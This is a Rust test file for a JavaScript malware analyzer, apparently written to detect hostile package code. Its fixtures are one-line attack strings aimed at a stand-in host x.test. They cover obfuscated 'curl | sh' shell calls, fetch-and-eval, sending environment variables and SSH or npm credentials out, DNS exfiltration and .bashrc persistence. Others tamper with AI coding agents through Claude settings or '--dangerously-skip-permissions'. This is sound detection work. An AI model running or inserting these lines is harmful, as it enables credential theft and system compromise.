use super::*;

fn all(source: &str) -> Vec<(String, Effect)> {
    let view = view("a.js", source.as_bytes());
    view.units.iter().flat_map(|unit| unit.effects.iter().map(|effect| (unit.name.clone(), effect.clone()))).collect()
}

#[track_caller]
fn must(source: &str, ability: Ability, from: Sources) {
    let found = all(source);
    assert!(
        found.iter().any(|(_, e)| e.ability == ability && e.from.all(from)),
        "{source}\nwanted {ability} from {from:?}, got {found:#?}"
    );
}

#[track_caller]
fn never(source: &str, ability: Ability, from: Sources) {
    let found = all(source);
    assert!(!found.iter().any(|(_, e)| e.ability == ability && e.from.all(from)), "{source}\n{found:#?}");
}

/// Names of the units that the top level reaches.
fn reached(source: &str) -> Vec<String> {
    let view = view("a.js", source.as_bytes());
    let (mut open, mut seen) = (vec![0], std::collections::BTreeSet::new());
    while let Some(at) = open.pop() {
        if seen.insert(at) {
            open.extend(view.units[at].calls.iter().filter_map(|callee| match callee {
                crate::lang::Callee::Local(at) => Some(*at),
                crate::lang::Callee::Other(..) => None,
            }));
        }
    }
    seen.into_iter().skip(1).map(|at| view.units[at].name.clone()).collect()
}

#[test]
fn names_are_resolved() {
    for source in [
        "require('child_process').exec('curl https://x.test | sh')",
        "const { execSync: run } = require('node:child_process'); run('curl https://x.test | sh')",
        "import cp from 'child_process'; cp.execSync(`curl https://x.test | sh`)",
        "import { exec as e } from 'node:child_process'\ne('curl https://x.test | sh')",
        "import * as cp from 'child_process'; cp['ex' + 'ec']('curl https://x.test | sh')",
        "const m = 'child_' + 'process', f = ['exec']; require(m)[f[0]]('curl https://x.test | sh')",
        "var c = __importStar(require('child_process')); (0, c.exec)('curl https://x.test | sh')",
        "process.mainModule.require('child_process').exec('curl https://x.test | sh')",
        "globalThis.process.mainModule.require(\"\\x63hild_process\").exec('curl https://x.test | sh')",
        "const r = require; r(atob('Y2hpbGRfcHJvY2Vzcw==')).exec('curl https://x.test | sh')",
        "const e = require('util').promisify(require('child_process').exec); await e('curl https://x.test | sh')",
        "require('child_process').spawn('sh', ['-c', 'curl https://x.test | sh'])",
        "(await import('child_process')).exec.call(null, 'curl https://x.test | sh')",
        "require('ssecorp_dlihc'.split('').reverse().join('').replace('rp','r').replace('child_process','child_process')); require('child_process').exec('curl https://x.test|sh')",
        "import { $ } from 'zx'; await $`curl https://x.test | sh`",
        "({1:e=>{e.exports=require('child_process')},2:(e,t,n)=>{n(1).exec('curl https://x.test | sh')}})",
    ] {
        must(source, Ability::Shell, Sources::NETWORK);
    }
    never("const exec = x => x; exec('curl https://x.test | sh')", Ability::Shell, Sources::NONE);
    never("/a/.exec('curl https://x.test | sh'); db.exec('x')", Ability::Shell, Sources::NONE);
}

#[test]
fn what_is_decoded_and_run() {
    for source in [
        "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())",
        "new Function(atob('Y29uc29sZS5sb2coMSk='))()",
        "const code = Buffer.from(x, 'hex').toString('utf8'); require('vm').runInThisContext(code)",
        "const z = require('zlib'); eval(z.gunzipSync(Buffer.from(DATA,'base64')).toString())",
        "const d = crypto.createDecipheriv('aes-256-cbc', k, iv); let s = d.update(data, 'hex', 'utf8') + d.final('utf8'); eval(s)",
        "function dec(s) { return Buffer.from(s, 'base64').toString() }\n(0, eval)(dec('Y29uc29sZS5sb2coMSk='))",
        "const m = new module.constructor(); m._compile(atob(x), '')",
        "setTimeout(atob('YWxlcnQoMSk='), 10)",
    ] {
        must(source, Ability::Execute, Sources::DECODED);
    }
    must(
        "eval(atob('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImN1cmwgaHR0cHM6Ly94LnRlc3R8c2giKQ=='))",
        Ability::Shell,
        Sources::NETWORK.with(Sources::DECODED),
    );
    must("https.get(u, r => { let b=''; r.on('data', c => b += c); r.on('end', () => eval(b)) }); const https=require('https')".trim_start(), Ability::Execute, Sources::NONE);
    must(
        "const https = require('https'); https.get('https://x.test', r => { let b=''; r.on('data', c => b += c); r.on('end', () => eval(b)) })",
        Ability::Execute,
        Sources::NETWORK,
    );
    must("fetch('https://x.test').then(r => r.text()).then(t => eval(t))", Ability::Execute, Sources::NETWORK);
    must(
        "const r = await fetch('https://x.test'); const t = await r.text(); new Function(t)()",
        Ability::Execute,
        Sources::NETWORK,
    );
    never("new Function('return this')()", Ability::Execute, Sources::DECODED);
    never("JSON.parse(Buffer.from(x,'base64').toString())", Ability::Execute, Sources::NONE);
}

#[test]
fn what_is_taken_and_sent() {
    must(
        "fetch('https://x.test', { method: 'POST', body: JSON.stringify(process.env) })",
        Ability::Network,
        Sources::ENVIRONMENT,
    );
    must(
        "const https=require('https'); const q=https.request({hostname:'x.test',method:'POST'}); q.write(JSON.stringify({...process.env})); q.end()",
        Ability::Network,
        Sources::ENVIRONMENT,
    );
    must(
        "const os=require('os'),fs=require('fs'),path=require('path'); const k=fs.readFileSync(path.join(os.homedir(),'.ssh','id_rsa'),'utf8'); axios.post('https://x.test',{k})",
        Ability::Network,
        Sources::CREDENTIAL,
    );
    must(
        "const fs=require('fs'); for (const p of ['/a', `${process.env.HOME}/.npmrc`]) { const d = fs.readFileSync(p); fetch('https://x.test/' + d.toString('base64')) }",
        Ability::Network,
        Sources::CREDENTIAL,
    );
    must(
        "function send(d) { fetch('https://x.test', {method:'POST', body: d}) }\nsend(JSON.stringify(process.env))",
        Ability::Network,
        Sources::ENVIRONMENT,
    );
    must(
        "const os=require('os'); require('dns').lookup(os.hostname() + '.x.test', () => {})",
        Ability::Dns,
        Sources::SYSTEM,
    );
    must(
        "const os=require('os'); require('http').get('http://x.test/?h=' + os.hostname() + os.userInfo().username)",
        Ability::Network,
        Sources::SYSTEM,
    );
    never("const c = new Client({ env: process.env.NODE_ENV }); fetch(c.url)", Ability::Network, Sources::ENVIRONMENT);
    never("require('child_process').spawn('node', ['a.js'], { env: process.env })", Ability::Network, Sources::NONE);
}

#[test]
fn what_is_written_and_started() {
    let source = "const fs=require('fs'),cp=require('child_process'),https=require('https');\n\
        https.get('https://x.test/a', r => { const f = fs.createWriteStream('/tmp/a'); r.pipe(f); f.on('finish', () => { fs.chmodSync('/tmp/a', 0o755); cp.spawn('/tmp/a') }) })";
    must(source, Ability::Spawn, Sources::WRITTEN.with(Sources::NETWORK));
    must(source, Ability::MakeExecutable, Sources::WRITTEN);
    let hook = "const fs=require('fs'),p=require('path'),os=require('os'); fs.writeFileSync(p.join(os.homedir(), '.claude', 'settings.json'), '{}')";
    must(hook, Ability::AgentConfig, Sources::NONE);
    must("require('fs').appendFileSync(require('os').homedir() + '/.bashrc', 'x')", Ability::Persist, Sources::NONE);
    must(
        "require('child_process').spawnSync('claude', ['--dangerously-skip-permissions', '-p', 'x'])",
        Ability::AgentPrompt,
        Sources::NONE,
    );
    must("const c = { gemini: { args: ['--yolo'] } }; run(c.gemini.args)", Ability::AgentPrompt, Sources::NONE);
    must("process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'", Ability::Disarm, Sources::NONE);
}

#[test]
fn units_run_when_something_starts_them() {
    assert_eq!(reached("function a(){} function b(){ a() } exports.c = () => {}; b()"), ["a", "b"]);
    assert_eq!(reached("later(); function later() { inner(); function inner() {} }"), ["later", "later.inner"]);
    assert_eq!(reached("class A { constructor() { this.m() } m() {} n() {} } new A()"), ["A.constructor", "A.m"]);
    assert_eq!(reached("(() => { setTimeout(() => {}, 1) })()").len(), 2);
    assert_eq!(reached("const o = { run() {}, stop() {} }; o.run()"), ["o.run"]);
    assert_eq!(reached("var m = {7: function(){ } }; function n(i){ m[i].call(0) } n(7)"), ["m.7", "n"]);
    assert_eq!(reached("const e = () => 1; function f(e) { e() } module.exports = f"), Vec::<String>::new());
    let view = view("a.ts", b"import { run } from './lib.js';\nexport default async function main(x: Array<string>): Promise<void> { run(x as any) }\n");
    assert_eq!(view.imports[0].module, "./lib.js");
    assert_eq!(view.units[1].calls, [crate::lang::Callee::Other("./lib.js".to_owned(), "run".to_owned())]);
}

#[test]
fn digests_mind_code_and_not_names() {
    let digest = |source: &str| view("a.js", source.as_bytes()).units[1].digest;
    assert_eq!(digest("function a(x) { return x.y + 'z' }"), digest("function a(q){\n  return q.y+\"z\" // c\n}"));
    assert_ne!(digest("function a(x) { return x.y + 'z' }"), digest("function a(x) { return x.w + 'z' }"));
}

#[test]
fn hostile_and_broken_files_end() {
    let many = 200_000;
    for source in [
        "(".repeat(many),
        "[".repeat(many),
        "{".repeat(many),
        "a=>".repeat(many),
        "`${".repeat(many),
        "a?b:".repeat(many),
        "!".repeat(many),
        "if(a)".repeat(many),
        "function(){".repeat(many),
        "new ".repeat(many),
        "a.".repeat(many),
        "a(".repeat(many),
        format!("{}eval(x){}", "(".repeat(80), ")".repeat(80)),
        "const {".repeat(many),
        "class{".repeat(many),
        "x=x+x;".repeat(many),
        "x='aaaaaaaaaaaaaaaa'+x+x;".repeat(20_000),
        "case a:default:".repeat(many),
        "for(;;)".repeat(many),
        "import{".repeat(many),
        "export ".repeat(many),
        "/".repeat(many),
        "\\".repeat(many),
        "'\\".to_owned(),
        "`\\".to_owned(),
        "\u{202e}é".repeat(1000),
        "a:b:<T>(x:y)=>{".repeat(20_000),
        "async ".repeat(many),
    ] {
        let view = view("a.js", source.as_bytes());
        assert!(!view.units.is_empty(), "{}", &source[..20.min(source.len())]);
    }
    let deep = format!("{}eval(atob(x)){}", "(".repeat(500), ")".repeat(500));
    assert!(matches!(view("a.js", deep.as_bytes()).fidelity, Fidelity::Partial(_)));
    must("var x = ] ) } ; @#$ function ( ) { eval(atob('YWxlcnQoMSk='))", Ability::Execute, Sources::DECODED);
}

#[test]
fn obfuscators_leave_names() {
    let source: String = (0..30).map(|i| format!("var _0x{i:04x}=1;")).collect();
    must(&source, Ability::Decode, Sources::BUILT);
}
